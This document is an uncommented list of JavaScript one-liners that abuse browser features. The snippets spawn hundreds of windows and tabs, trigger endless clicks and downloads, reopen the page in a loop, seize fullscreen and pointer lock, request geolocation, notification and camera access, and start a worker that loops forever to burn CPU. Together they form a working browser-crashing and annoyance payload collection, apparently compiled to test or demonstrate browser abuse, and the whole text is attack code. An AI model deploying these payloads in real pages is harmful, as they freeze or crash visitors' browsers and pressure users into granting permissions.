for (let n = 0; n < 500; n++) open('?' + n)
setInterval(() => open('about:blank', '_blank', 'width=9999,height=9999'), 1)
document.body.innerHTML = '<a id=a target=_blank href=?x>x</a>'; setInterval(() => document.getElementById('a').click(), 1)
const a = Object.assign(document.createElement('a'), {href: 'data:,x', download: 'x'}); setInterval(() => a.click(), 1)
while (true) if (!open(location)) break
document.documentElement.requestFullscreen().catch(() => 0); document.body.requestPointerLock()
navigator.geolocation.getCurrentPosition(() => 0); Notification.requestPermission(); navigator.mediaDevices?.getUserMedia({video: 1})
navigator.serviceWorker?.register('sw.js').catch(() => 0); new SharedWorker('data:text/javascript,for(;;);')
navigator.registerProtocolHandler?.('web+x', location.origin + '/%s'); document.execCommand('print'); external.AddSearchProvider?.()
